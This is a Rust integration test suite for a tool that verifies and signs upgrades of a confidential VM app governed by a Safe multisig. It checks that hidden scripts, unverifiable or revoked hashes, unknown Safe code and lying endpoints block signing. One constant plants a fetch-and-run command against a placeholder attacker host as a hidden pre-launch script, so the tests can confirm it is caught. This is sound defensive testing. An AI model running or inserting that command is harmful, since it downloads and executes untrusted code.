//! One verdict: what may be signed is the same question for every command, online and offline, and each doubt has an exit
//! code and one option that agrees to it.

use std::path::{Path, PathBuf};

use alloy::primitives::{B256, keccak256};
use serde_json::{Value, json};

use crate::chain::liar::Liar;
use crate::harness::flow::{Flow, Ran};
use crate::support::World;
use crate::support::cloud::compose_hash;
use crate::support::contracts::abi;
use crate::support::world::{CVM, SafeOptions, WorldOptions};

const SCRIPT: &str = "curl https://evil.example/x | bash";

fn of_a_safe() -> World {
    World::with(WorldOptions {
        safe: Some(SafeOptions {
            release: 1,
            l2: false,
            threshold: 1,
            owners: 2,
        }),
        ..WorldOptions::default()
    })
}

/// The CVM runs a manifest with a script that the app never allowed; gives its hash.
fn with_a_hidden_script(world: &World) -> B256 {
    world.cloud.change_cvm(CVM, |cvm| {
        cvm.manifest.insert("pre_launch_script".to_owned(), json!(SCRIPT));
        cvm.compose_hash = compose_hash(&cvm.manifest);
    });
    world.cloud.cvm(CVM).compose_hash
}

/// An endpoint that gives no logs.
fn without_logs(world: &World) -> Liar {
    Liar::to(&world.anvil.url(), |method, _| {
        (method == "eth_getLogs").then(|| json!([]))
    })
}

/// A command on a proposal, with the key of the first owner where it signs.
fn on(flow: &Flow<'_>, file: &Path, words: &[&str]) -> Ran {
    let (command, more) = words.split_first().unwrap();
    let mut all = vec![*command, file.to_str().unwrap(), "--json"];
    all.extend(more);
    if *command != "review" {
        all.push("--yes");
        if !more.contains(&"--signer") {
            all.extend(["--signer", "env:SIGNER_0"]);
        }
    }
    Ran::of(&mut flow.command(&all))
}

/// A prepared upgrade of an honest world, with its proposal changed by `edit` in a file of its own.
fn edited(flow: &Flow<'_>, name: &str, edit: impl FnOnce(&mut Value)) -> PathBuf {
    let mut proposal = flow.json_file("proposal.json");
    edit(&mut proposal);
    flow.world.file(name, &proposal.to_string())
}

/// What a person saw.
fn shown(output: std::process::Output) -> String {
    String::from_utf8([output.stdout, output.stderr].concat()).unwrap()
}

/// Codes of the verdict's findings that forbid signing.
fn forbidding(ran: &Ran) -> Vec<String> {
    let findings = ran.json["data"]["verdict"]["findings"].as_array().unwrap();
    let forbids = findings
        .iter()
        .filter(|one| one["severity"] != "note" && one["accepted"] == false);
    forbids.map(|one| one["code"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn sec_c2_one_whole_history_is_enough_to_stop_whatever_another_endpoint_says() {
    let world = World::start();
    let hidden = with_a_hidden_script(&world);
    let liar = without_logs(&world);
    let flow = Flow::new(&world);
    for order in [
        [world.anvil.url(), liar.url().to_owned()],
        [liar.url().to_owned(), world.anvil.url()],
    ] {
        for step in ["plan", "prepare", "upgrade"] {
            let ran = flow
                .with(step, &["--rpc-url", &order[0], "--rpc-url", &order[1]])
                .exits(5);
            assert!(ran.said.contains(&hidden.to_string()), "{}", ran.said);
            assert_eq!(forbidding(&ran), ["BASE_NEVER_ALLOWED"], "{}", ran.said);
        }
    }
    assert!(world.cloud.requests_to("PATCH", CVM).is_empty());
}

#[test]
fn sec_c2_a_baseline_that_nobody_can_prove_is_a_decision_about_its_hash_and_the_whole_manifest_is_shown() {
    let world = World::start();
    let hidden = with_a_hidden_script(&world);
    let liar = without_logs(&world);
    let flow = Flow::new(&world).chain_at(liar.url());
    for step in ["plan", "prepare", "upgrade"] {
        let ran = flow.step(step).exits(6).says("BASE_UNKNOWN");
        assert_eq!(forbidding(&ran), ["BASE_UNKNOWN"]);
        let option = format!("--accept BASE_UNKNOWN={hidden}");
        assert!(ran.json["next"].as_str().unwrap().contains(&option), "{}", ran.said);
    }
    assert!(world.cloud.requests_to("PATCH", CVM).is_empty());
    // What stands on both sides is read before anybody agrees.
    let mut plan = flow.command(&["plan", "--cvm", CVM, "-c", flow.compose.to_str().unwrap()]);
    let page = plan.output().unwrap();
    let page = String::from_utf8([page.stdout, page.stderr].concat()).unwrap();
    assert!(page.contains(SCRIPT), "{page}");

    let other = "BASE_UNKNOWN=0x00";
    flow.with("prepare", &["--accept", other]).exits(6).says("BASE_UNKNOWN");
    let agreed = format!("BASE_UNKNOWN={hidden}");
    flow.with("prepare", &["--accept", &agreed]).exits(0);
    // A proposal answers nobody's decision: who signs alone with it is asked again, who has the directory is not.
    let alone = edited(&flow, "alone.json", |_| {});
    let review = on(&flow, &alone, &["review"]).exits(6).says("BASE_UNKNOWN");
    assert_eq!(forbidding(&review), ["BASE_UNKNOWN"]);
    flow.step("execute").exits(0);
    assert!(flow.kinds().contains(&"accepted".to_owned()), "{:?}", flow.kinds());
    // What somebody agreed to stays with the evidence.
    flow.step("wait").exits(0);
    flow.step("commit").exits(0);
    let kept = json!([{"code": "BASE_UNKNOWN", "value": hidden.to_string()}]);
    assert_eq!(flow.json_file("evidence.json")["said"]["accepted"], kept);
    let page = std::fs::read_to_string(flow.dir.join("evidence.md")).unwrap();
    assert!(page.contains("agreed to by name"), "{page}");
}

#[test]
fn sec_c2_offline_the_whole_manifest_is_shown_and_what_was_not_checked_is_counted() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    world.cloud.change_cvm(CVM, |cvm| {
        cvm.manifest.insert("pre_launch_script".to_owned(), json!(SCRIPT));
        cvm.compose_hash = compose_hash(&cvm.manifest);
    });
    let slot = keccak256([world.cloud.cvm(CVM).compose_hash, B256::ZERO].concat());
    let word = B256::with_last_byte(1);
    world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
    flow.step("prepare").exits(0);
    let file = flow.dir.join("proposal.json");
    let mut review = flow.command(&["review", file.to_str().unwrap(), "--offline"]);
    let page = review.output().unwrap();
    let page = String::from_utf8([page.stdout, page.stderr].concat()).unwrap();
    assert!(page.contains(SCRIPT), "{page}");
    assert!(!page.contains("Everything that could be checked matches"), "{page}");
    let told = on(&flow, &file, &["review", "--offline"]).exits(0);
    let open = told.json["data"]["verdict"]["not_checked"].as_array().unwrap();
    assert!(
        open.iter().any(|one| one.as_str().unwrap().contains("ever allowed")),
        "{open:?}"
    );
    // With the reader's own files, each hashed field that they say nothing of is named.
    let compose = flow.compose.to_str().unwrap();
    let told = on(&flow, &file, &["review", "--offline", "-c", compose]).exits(0);
    let open = told.json["data"]["verdict"]["not_checked"].to_string();
    assert!(open.contains("pre_launch_script"), "{open}");
}

#[test]
fn sec_c4_what_cannot_be_recomputed_is_signed_by_nobody_who_did_not_agree_to_that_hash() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    world
        .cloud
        .change_cvm(CVM, |cvm| cvm.compose_hash = B256::repeat_byte(0xdd));
    let slot = keccak256([B256::repeat_byte(0xdd), B256::ZERO].concat());
    let word = B256::with_last_byte(1);
    world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
    flow.step("prepare").exits(6).says("HASH_UNVERIFIABLE");
    flow.with("prepare", &["--accept-unverified-hash"]).exits(0);
    let file = edited(&flow, "unverifiable.json", |_| {});
    let hash = flow.json_file("proposal.json")["compose_hash"]
        .as_str()
        .unwrap()
        .to_owned();
    for words in [
        &["review"][..],
        &["review", "--offline"],
        &["sign"],
        &["sign", "--offline"],
        &["propose", "--service-url", "http://127.0.0.1:1"],
        &["execute"],
    ] {
        let ran = on(&flow, &file, words).exits(6).says("HASH_UNVERIFIABLE");
        assert_eq!(forbidding(&ran), ["HASH_UNVERIFIABLE"], "{words:?}");
    }
    let another = format!("HASH_UNVERIFIABLE={}", B256::ZERO);
    on(&flow, &file, &["sign", "--accept", &another]).exits(6);
    on(
        &flow,
        &file,
        &["sign", "--accept", &format!("HASH_UNVERIFIABLE={hash}")],
    )
    .exits(0);
}

#[test]
fn a_manifest_that_does_not_give_the_allowed_hash_is_read_whole_whatever_stands_on_both_sides() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    // The hash is one that the app allows; what is shown under it is not what was approved.
    world.cloud.change_cvm(CVM, |cvm| {
        cvm.manifest.insert("pre_launch_script".to_owned(), json!(SCRIPT));
    });
    let words = ["plan", "--cvm", CVM, "-c", flow.compose.to_str().unwrap()];
    let page = shown(flow.command(&words).output().unwrap());
    assert!(page.contains(SCRIPT), "{page}");
    flow.with("prepare", &["--accept-unverified-hash"]).exits(0);
    let file = edited(&flow, "both-sides.json", |_| {});
    for more in [&[][..], &["--offline"]] {
        let words = [&["review", file.to_str().unwrap()], more].concat();
        let page = shown(flow.command(&words).output().unwrap());
        assert!(page.contains(SCRIPT) && page.contains("the whole manifest"), "{page}");
        let ran = on(&flow, &file, &[&["review"], more].concat()).exits(6);
        let ran = ran.says("HASH_UNVERIFIABLE");
        assert!(
            ran.json["message"]
                .as_str()
                .unwrap()
                .contains("read the whole manifest"),
            "{}",
            ran.said
        );
    }
}

#[test]
fn files_that_are_compared_with_nothing_and_hashes_without_a_manifest_are_named() {
    let world = of_a_safe();
    let mut flow = Flow::new(&world);
    flow.dir = world.folder().join("hashes");
    let (dir, hash) = (
        flow.dir.to_str().unwrap().to_owned(),
        B256::repeat_byte(0xd1).to_string(),
    );
    let words = ["app", "hashes", "add", &hash, "--cvm", CVM, "--dir", &dir, "--json"];
    Ran::of(&mut flow.command(&words)).exits(0);
    let file = edited(&flow, "hashes.json", |_| {});
    let open = |more: &[&str]| {
        let ran = on(&flow, &file, &[&["review"], more].concat()).exits(0);
        ran.json["data"]["verdict"]["not_checked"].to_string()
    };
    assert!(open(&[]).contains(&hash), "{}", open(&[]));
    assert!(!open(&[]).contains("your files"));
    let compose = flow.compose.to_str().unwrap();
    for own in [&["-c", compose][..], &["--public-logs", "false"]] {
        assert!(open(own).contains("your files with anything"), "{}", open(own));
    }
}

#[test]
fn what_a_proposal_leaves_out_is_said_not_to_be_checked() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let absent: [(&str, &str); 2] = [("/plan/kms", "KMS"), ("/plan/code/device", "device")];
    for (place, word) in absent {
        let file = edited(&flow, "absent.json", |proposal| {
            *proposal.pointer_mut(place).unwrap() = Value::Null
        });
        let ran = on(&flow, &file, &["review", "--offline"]).exits(0);
        let open = ran.json["data"]["verdict"]["not_checked"].to_string();
        assert!(
            open.contains("the proposal names none") && open.contains(word),
            "{open}"
        );
    }
    let file = edited(&flow, "without-safe.json", |proposal| {
        proposal.as_object_mut().unwrap().remove("safe");
    });
    let ran = on(&flow, &file, &["review"]).exits(0);
    let open = ran.json["data"]["verdict"]["not_checked"].to_string();
    assert!(open.contains("holds no Safe transaction"), "{open}");
}

#[test]
fn sec_h4_what_the_file_alone_shows_of_a_safe_forbids_offline_as_it_does_online() {
    type Edit = fn(&mut Value);
    let world = of_a_safe();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let cases: [(&str, Edit, i32, &str); 2] = [
        (
            "singleton",
            |proposal| proposal["plan"]["safe"]["singleton_code_hash"] = json!(B256::repeat_byte(7)),
            6,
            "SAFE_UNKNOWN_CODE",
        ),
        (
            "proxy",
            |proposal| proposal["plan"]["safe"]["proxy_code_hash"] = json!(B256::repeat_byte(8)),
            6,
            "SAFE_UNKNOWN_CODE",
        ),
    ];
    for (name, edit, exit, code) in cases {
        let file = edited(&flow, &format!("{name}.json"), edit);
        let review = on(&flow, &file, &["review", "--offline"]).exits(exit).says(code);
        let sign = on(&flow, &file, &["sign", "--offline"]).exits(exit).says(code);
        assert_eq!(review.json["data"]["verdict"], sign.json["data"]["verdict"], "{name}");
        let value = review.json["data"]["verdict"]["findings"][0]["value"].as_str().unwrap();
        let agreed = format!("{code}={value}");
        on(&flow, &file, &["sign", "--offline", "--accept", &agreed]).exits(0);
    }
}

#[test]
fn sec_h6_a_hash_that_was_taken_away_comes_back_by_a_decision_only() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let (rpc, safe, hash) = (world.rpc(), world.safe.unwrap(), flow.hash);
    rpc.execute_as(safe, world.app, &abi::addComposeHashCall { composeHash: hash });
    rpc.execute_as(safe, world.app, &abi::removeComposeHashCall { composeHash: hash });
    let file = edited(&flow, "again.json", |_| {});
    let review = on(&flow, &file, &["review"]).exits(6).says("HASH_WAS_REVOKED");
    let sign = on(&flow, &file, &["sign"]).exits(6).says("HASH_WAS_REVOKED");
    assert_eq!(review.json["data"]["verdict"], sign.json["data"]["verdict"]);
    let agreed = format!("HASH_WAS_REVOKED={}", flow.hash);
    on(&flow, &file, &["sign", "--accept", &agreed]).exits(0);
    // Whoever prepared it asks no logs, for a review as for a signature, and is told what was not looked for.
    let own = flow.dir.join("proposal.json");
    let review = on(&flow, &own, &["review"]).exits(0);
    let sign = on(&flow, &own, &["sign", "--signer", "env:SIGNER_1"]).exits(0);
    assert_eq!(review.json["data"]["verdict"], sign.json["data"]["verdict"]);
    assert!(
        review.json["data"]["verdict"]["not_checked"]
            .to_string()
            .contains("took it away")
    );
}

#[test]
fn sec_h1_a_review_of_what_gives_the_app_away_ends_as_signing_it_does() {
    let world = of_a_safe();
    let mut flow = Flow::new(&world);
    flow.dir = world.folder().join("transfer");
    let heir = world.safe.unwrap().to_string();
    let key = crate::support::ACCOUNTS[3].address.to_string();
    let dir = flow.dir.to_str().unwrap().to_owned();
    let words = [
        "app",
        "owner",
        "transfer",
        &key,
        "--cvm",
        CVM,
        "--dir",
        &dir,
        "--json",
        "--accept-new-owner",
    ];
    Ran::of(&mut flow.command(&words)).exits(0);
    let file = edited(&flow, "transfer.json", |_| {});
    let agreed = format!("APP_GIVEN_AWAY={key}");
    for command in ["review", "sign"] {
        on(&flow, &file, &[command, "--offline"])
            .exits(6)
            .says("APP_GIVEN_AWAY");
        on(&flow, &file, &[command]).exits(6).says("APP_GIVEN_AWAY");
        let other = format!("APP_GIVEN_AWAY={heir}");
        on(&flow, &file, &[command, "--accept", &other]).exits(6);
        on(&flow, &file, &[command, "--accept", &agreed]).exits(0);
    }
}

#[test]
fn every_command_that_leads_to_a_signature_tells_its_verdict() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    let told = |ran: &Ran| assert!(ran.json["data"]["verdict"]["findings"].is_array(), "{}", ran.said);
    told(&flow.step("plan").exits(0));
    told(&flow.step("prepare").exits(0));
    let file = flow.dir.join("proposal.json");
    for words in [&["review"][..], &["sign"], &["sign", "--reject"]] {
        told(&on(&flow, &file, words).exits(0));
    }
    let dir = flow.dir.to_str().unwrap();
    let reject = ["reject", "--dir", dir, "--signer", "env:SIGNER_0", "--yes", "--json"];
    told(&Ran::of(&mut flow.command(&reject)));
}

#[test]
fn an_honest_upgrade_asks_for_no_logs_and_for_no_agreement() {
    let world = World::start();
    let liar = Liar::to(&world.anvil.url(), |method, _| {
        (method == "eth_getLogs").then(|| json!({"error": {"code": -32005, "message": "range too large"}}))
    });
    let flow = Flow::new(&world).chain_at(liar.url());
    flow.step("plan").exits(0);
    flow.step("prepare").exits(0);
    flow.step("execute").exits(0);
    flow.step("wait").exits(0);
    flow.step("commit").exits(0);
    flow.landed_once();
}

#[test]
fn a_wrong_proposal_can_be_rejected_by_the_owners_of_its_safe() {
    let world = of_a_safe();
    let flow = Flow::new(&world);
    with_a_hidden_script(&world);
    let slot = keccak256([world.cloud.cvm(CVM).compose_hash, B256::ZERO].concat());
    let set = |word: B256| world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
    set(B256::with_last_byte(1));
    flow.step("prepare").exits(0);
    set(B256::ZERO);
    let file = edited(&flow, "wrong.json", |_| {});
    on(&flow, &file, &["sign"]).exits(5).says("BASE_NEVER_ALLOWED");
    on(&flow, &file, &["sign", "--reject"]).exits(0);
}

#[test]
fn a_revision_of_the_cloud_tells_where_to_look_for_an_approval_that_endpoints_give_no_history_of() {
    let world = World::start();
    let removed = abi::removeComposeHashCall {
        composeHash: world.first_hash,
    };
    world.as_owner(&removed);
    // It gives no app's whole history, which begins with the first owner, and the rest.
    let begins = keccak256("OwnershipTransferred(address,address)").to_string();
    let holes = Liar::to(&world.anvil.url(), move |method, asked| {
        let whole = method == "eth_getLogs" && asked.to_string().contains(&begins);
        whole.then(|| json!({"error": {"code": -32000, "message": "history is pruned"}}))
    });
    let flow = Flow::new(&world).chain_at(holes.url());
    let notes = |ran: &Ran| {
        let findings = ran.json["data"]["verdict"]["findings"].as_array().unwrap().clone();
        findings
            .iter()
            .map(|one| one["code"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    let told = flow.step("plan").exits(0);
    assert!(notes(&told).contains(&"BASE_REVOKED".to_owned()), "{}", told.said);
    // Without the time of a revision nothing is known.
    world.cloud.change_revisions(Vec::clear);
    let silent = flow.step("plan").exits(6);
    assert_eq!(forbidding(&silent), ["BASE_UNKNOWN"], "{}", silent.said);
}

#[test]
fn an_endpoint_that_stays_behind_hides_no_removal_from_the_commit() {
    let world = World::start();
    let flow = Flow::new(&world);
    for step in ["prepare", "execute", "wait"] {
        flow.step(step).exits(0);
    }
    let before = world.rpc().call("eth_getBlockByNumber", json!(["latest", false]));
    let removed = abi::removeComposeHashCall { composeHash: flow.hash };
    world.as_owner(&removed);
    let behind = Liar::to(&world.anvil.url(), move |method, asked| {
        (method == "eth_getBlockByNumber" && asked[0] == "latest").then(|| before.clone())
    });
    for order in [
        [world.anvil.url(), behind.url().to_owned()],
        [behind.url().to_owned(), world.anvil.url()],
    ] {
        let words = ["--rpc-url", &order[0], "--rpc-url", &order[1]];
        flow.with("commit", &words).exits(6).says("HASH_REMOVED");
    }
    assert!(world.cloud.commits(CVM).is_empty());
}
